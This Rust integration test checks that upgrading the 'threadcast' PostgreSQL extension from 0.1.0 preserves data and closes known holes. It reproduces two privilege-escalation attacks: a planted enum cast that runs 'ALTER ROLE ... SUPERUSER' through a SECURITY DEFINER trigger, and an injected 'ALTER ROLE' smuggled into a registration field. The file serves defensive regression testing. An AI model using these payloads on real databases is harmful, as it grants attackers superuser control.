//! `ALTER EXTENSION threadcast UPDATE` from the released 0.1.0: a database in 0.1.0's state keeps
//! working under the new library until the DBA updates (its triggers keep numbering and
//! announcing in 0.1.0's format), the update keeps every number and registration, the attacks
//! that 0.1.0 allowed (reproduced here first) fail afterwards, and the updated catalog is the
//! same as a fresh install's.

use std::collections::BTreeSet;

use threadcast_payload::{Key, KeyRing, Payload};
use threadcast_tests::attacker::Attacker;
use threadcast_tests::db::{self, connect};
use threadcast_tests::{Cluster, TestDb};
use tokio_postgres::Client;
use uuid::Uuid;

const FIXTURE: &str = include_str!("../fixtures/enable-0.1.0.sql");

/// A database as threadcast 0.1.0 left it: its SQL objects, and feedback_replies enabled.
async fn database_on_0_1_0() -> TestDb {
    let name = format!("t_{}", Uuid::new_v4().simple());
    connect(&Cluster::shared().url("postgres", "postgres"))
        .await
        .batch_execute(&format!("CREATE DATABASE {name}"))
        .await
        .unwrap();
    let db = TestDb::attach(&name).await;
    db.client
        .batch_execute("CREATE EXTENSION threadcast VERSION '0.1.0'")
        .await
        .expect("0.1.0's install script is installed (cargo xtask test puts the fixture there)");
    db.client
        .batch_execute(FIXTURE)
        .await
        .expect("0.1.0's enable()");
    db
}

async fn new_thread(client: &Client) -> Uuid {
    client
        .query_one("INSERT INTO feedback DEFAULT VALUES RETURNING id", &[])
        .await
        .unwrap()
        .get(0)
}

async fn keys(client: &Client) -> KeyRing {
    let rows = client
        .query("SELECT kid, secret FROM threadcast.keys", &[])
        .await
        .unwrap();
    KeyRing::new(rows.iter().map(|r| {
        Key::from_row(r.get::<_, i32>(0) as u32, r.get::<_, &[u8]>(1)).expect("a 32-byte key")
    }))
}

/// The enum-cast attack of issue 8, mounted by hand on a table of the attacker's (0.1.0's
/// trigger functions were executable by PUBLIC, so no enable() is needed).
async fn mount_cast_attack(mallory: &Attacker, table: &str) {
    let s = &mallory.schema;
    mallory
        .client
        .batch_execute(&format!(
            "CREATE TYPE {s}.{table}_t AS ENUM ('x');
             CREATE FUNCTION {s}.{table}_json({s}.{table}_t) RETURNS json LANGUAGE plpgsql AS $$
             BEGIN
                 BEGIN
                     EXECUTE format('ALTER ROLE %I SUPERUSER', session_user);
                 EXCEPTION WHEN insufficient_privilege THEN NULL;
                 END;
                 RETURN '\"x\"'::json;
             END $$;
             CREATE CAST ({s}.{table}_t AS json) WITH FUNCTION {s}.{table}_json({s}.{table}_t);
             CREATE TABLE {s}.{table} (id bigserial PRIMARY KEY, feedback_id uuid NOT NULL, v {s}.{table}_t, thread_seq bigint);
             CREATE TRIGGER threadcast_seq BEFORE INSERT OR UPDATE ON {s}.{table}
                 FOR EACH ROW EXECUTE FUNCTION threadcast.assign_seq('feedback_id', 'thread_seq');
             CREATE TRIGGER threadcast_notify AFTER INSERT OR UPDATE OR DELETE ON {s}.{table}
                 FOR EACH ROW EXECUTE FUNCTION threadcast.notify('feedback_id', 'thread_seq', 'id', 'x', 'full');"
        ))
        .await
        .expect("the attack is set up as a role with CREATE on one schema");
}

async fn write_attack_row(mallory: &Attacker, table: &str) {
    mallory
        .client
        .batch_execute(&format!(
            "INSERT INTO {}.{table} (feedback_id, v) VALUES (gen_random_uuid(), 'x')",
            mallory.schema
        ))
        .await
        .expect("the attacker writes its own table");
}

#[tokio::test]
async fn an_upgrade_from_0_1_0_keeps_the_numbers_and_closes_the_attacks() {
    let db = database_on_0_1_0().await;
    let client = &db.client;
    let thread = new_thread(client).await;
    let (_listener, mut heard) = db::listen(&db.admin_url, "threadcast").await;

    // Before the update, under the new library: writes are numbered and announced as 0.1.0 did.
    for content in ["one", "two", "three"] {
        db::insert_reply(client, thread, content).await;
    }
    for seq in 1..=3 {
        let text = heard.recv().await.unwrap();
        assert!(
            text.starts_with(r#"{"v":1,"op":"I""#) && text.contains(&format!(r#""seq":{seq},"#)),
            "0.1.0's payload, so a 0.1.0 broadcaster keeps working until the update: {text}"
        );
    }
    let error = client
        .batch_execute("SELECT threadcast.enable('public.feedback_replies')")
        .await
        .expect_err("enable() waits for the update");
    let db_error = error.as_db_error().unwrap();
    assert!(db_error.message().contains("older than its library"));
    assert_eq!(
        db_error.hint(),
        Some("Run ALTER EXTENSION threadcast UPDATE; as a superuser.")
    );

    // The attacks of 0.1.0, reproduced: a planted cast runs as the extension owner, and an owner
    // may plant SQL in threadcast.sources.
    let mallory = Attacker::new(&db).await;
    mount_cast_attack(&mallory, "before").await;
    write_attack_row(&mallory, "before").await;
    assert!(
        mallory.is_superuser(&db).await,
        "0.1.0's SECURITY DEFINER trigger made the attacker superuser"
    );
    client
        .batch_execute(&format!("ALTER ROLE {} NOSUPERUSER", mallory.role))
        .await
        .unwrap();
    mallory
        .client
        .batch_execute(&format!(
            "INSERT INTO threadcast.sources (source, thread_column, seq_column, id_column, channel, payload, seq_index)
             VALUES ('{s}.before', 'feedback_id', 'thread_seq', 'id', 'x', 'full', 'x; ALTER ROLE {r} SUPERUSER');",
            s = mallory.schema,
            r = mallory.role
        ))
        .await
        .expect("0.1.0 let an owner write its registration");

    client
        .batch_execute("ALTER EXTENSION threadcast UPDATE")
        .await
        .expect("the update runs");
    let version: String = client
        .query_one(
            "SELECT extversion FROM pg_extension WHERE extname = 'threadcast'",
            &[],
        )
        .await
        .unwrap()
        .get(0);
    assert_eq!(version, env!("CARGO_PKG_VERSION"));

    // Numbers go on where they were, now signed.
    db::insert_reply(client, thread, "four").await;
    let text = heard.recv().await.unwrap();
    let payload = Payload::verify(&text, &keys(client).await).expect("signed with the new key");
    assert_eq!(
        (payload.seq, payload.thread.as_ref()),
        (4, thread.to_string().as_str())
    );
    let failing: Vec<String> = client
        .query(
            "SELECT \"check\" FROM threadcast.doctor('public.feedback_replies') WHERE NOT ok",
            &[],
        )
        .await
        .unwrap()
        .iter()
        .map(|r| r.get(0))
        .collect();
    assert_eq!(failing, ["listener"], "the updated source is healthy");

    // The attacks now fail: the old hand-made triggers, and a table enabled the 0.2 way.
    write_attack_row(&mallory, "before").await;
    mount_cast_attack(&mallory, "after").await;
    write_attack_row(&mallory, "after").await;
    for call in ["doctor", "disable", "enable"] {
        let _ = client
            .batch_execute(&format!(
                "SELECT * FROM threadcast.{call}('{}.before')",
                mallory.schema
            ))
            .await;
    }
    assert!(
        !mallory.is_superuser(&db).await,
        "after the update, the attacks gain nothing"
    );
}

/// Every object of the extension, described without oids: definitions, privileges, columns,
/// constraints, policies, indexes, comments and configuration.
async fn describe(client: &Client) -> BTreeSet<String> {
    let rows = client
        .query(
            "WITH members AS (
                 SELECT d.classid, d.objid FROM pg_depend d
                  WHERE d.refclassid = 'pg_extension'::regclass AND d.deptype = 'e'
                    AND d.refobjid = (SELECT oid FROM pg_extension WHERE extname = 'threadcast'))
             SELECT 'object ' || pg_describe_object(classid, objid, 0) FROM members
             UNION ALL
             SELECT 'function ' || p.oid::regprocedure || ' ' || pg_get_functiondef(p.oid)
                    || ' acl ' || coalesce(p.proacl::text, 'default')
               FROM members m JOIN pg_proc p ON m.classid = 'pg_proc'::regclass AND p.oid = m.objid
             UNION ALL
             SELECT 'table ' || c.oid::regclass || ' acl ' || coalesce(c.relacl::text, 'default')
                    || ' rls ' || c.relrowsecurity || ' comment ' || coalesce(obj_description(c.oid, 'pg_class'), '')
               FROM members m JOIN pg_class c ON m.classid = 'pg_class'::regclass AND c.oid = m.objid
             UNION ALL
             SELECT 'column ' || a.attrelid::regclass || '.' || a.attname || ' ' || format_type(a.atttypid, a.atttypmod)
                    || ' notnull ' || a.attnotnull || ' default ' || coalesce(pg_get_expr(ad.adbin, ad.adrelid), '')
                    || ' identity ' || a.attidentity::text
               FROM members m JOIN pg_attribute a ON m.classid = 'pg_class'::regclass AND a.attrelid = m.objid
               LEFT JOIN pg_attrdef ad ON ad.adrelid = a.attrelid AND ad.adnum = a.attnum
              WHERE a.attnum > 0 AND NOT a.attisdropped
             UNION ALL
             SELECT 'constraint ' || co.conrelid::regclass || ' ' || pg_get_constraintdef(co.oid)
               FROM members m JOIN pg_constraint co ON m.classid = 'pg_class'::regclass AND co.conrelid = m.objid
             UNION ALL
             SELECT 'index ' || pg_get_indexdef(i.indexrelid)
               FROM members m JOIN pg_index i ON m.classid = 'pg_class'::regclass AND i.indrelid = m.objid
             UNION ALL
             SELECT 'policy ' || schemaname || '.' || tablename || ' ' || policyname || ' ' || cmd || ' '
                    || roles::text || ' ' || coalesce(qual, '') || ' ' || coalesce(with_check, '')
               FROM pg_policies WHERE schemaname = 'threadcast'
             UNION ALL
             SELECT 'config ' || e.extconfig::regclass[]::text || ' ' || e.extcondition::text
               FROM pg_extension e WHERE e.extname = 'threadcast'
             UNION ALL
             SELECT 'schema acl ' || n.nspacl::text FROM pg_namespace n WHERE n.nspname = 'threadcast'",
            &[],
        )
        .await
        .unwrap();
    rows.iter().map(|r| r.get(0)).collect()
}

#[tokio::test]
async fn an_updated_catalog_is_the_same_as_a_fresh_install() {
    let db = database_on_0_1_0().await;
    let updated = &db.client;
    updated
        .batch_execute("ALTER EXTENSION threadcast UPDATE")
        .await
        .unwrap();
    let fresh_name = format!("t_{}", Uuid::new_v4().simple());
    let cluster = Cluster::shared();
    connect(&cluster.url("postgres", "postgres"))
        .await
        .batch_execute(&format!("CREATE DATABASE {fresh_name}"))
        .await
        .unwrap();
    let fresh = connect(&cluster.url(&fresh_name, "postgres")).await;
    fresh
        .batch_execute("CREATE EXTENSION threadcast")
        .await
        .unwrap();

    let (updated, fresh) = (describe(updated).await, describe(&fresh).await);
    assert!(
        fresh.len() > 60,
        "the description covers the extension: {fresh:?}"
    );
    let only_updated: Vec<&String> = updated.difference(&fresh).collect();
    let only_fresh: Vec<&String> = fresh.difference(&updated).collect();
    assert!(
        only_updated.is_empty() && only_fresh.is_empty(),
        "the update makes what a fresh install makes.\nonly after the update:\n{}\n\nonly in a fresh install:\n{}",
        only_updated.iter().map(|s| s.as_str()).collect::<Vec<_>>().join("\n"),
        only_fresh.iter().map(|s| s.as_str()).collect::<Vec<_>>().join("\n"),
    );
}
